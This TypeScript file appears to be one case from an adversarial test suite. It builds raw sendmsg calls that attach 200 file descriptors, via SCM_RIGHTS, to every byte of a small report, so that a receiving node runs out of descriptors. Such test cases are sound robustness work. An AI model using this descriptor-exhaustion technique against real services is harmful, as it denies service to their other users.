/** Puts open descriptors on the wire, for the node to hold until it has none left for others. */
import { attack } from "../attack.ts";
import { answerHead, frame, inject, ownStream, untilEnded } from "../frames.ts";
import { addressOf, call } from "../kernel.ts";

const SOL_SOCKET = 1;
const SCM_RIGHTS = 1;
const wireFd = 3;
const descriptorsPerByte = 200;

export default attack(() => ({
  it: async () => {
    // The report itself, one byte at a time, each with descriptors: for who receives them, each is a new one.
    const text = Buffer.from(JSON.stringify({ it: "sent" }).padEnd(50));
    inject(answerHead());
    inject(frame({ type: 2, flags: 1, stream: ownStream, claimedBytes: text.length }));
    for (let at = 0; at < text.length; at++) sendWithDescriptors(text.subarray(at, at + 1));
    await untilEnded();
  },
}));

function sendWithDescriptors(text: Uint8Array): void {
  const piece = new BigUint64Array([addressOf(text), BigInt(text.length)]);
  const control = Buffer.alloc(16 + descriptorsPerByte * 4);
  control.writeBigUInt64LE(BigInt(control.length), 0);
  control.writeInt32LE(SOL_SOCKET, 8);
  control.writeInt32LE(SCM_RIGHTS, 12);
  const message = new BigUint64Array([
    0n,
    0n,
    addressOf(piece),
    1n,
    addressOf(control),
    BigInt(control.length),
    0n,
  ]);
  call("sendmsg", wireFd, message, 0);
}
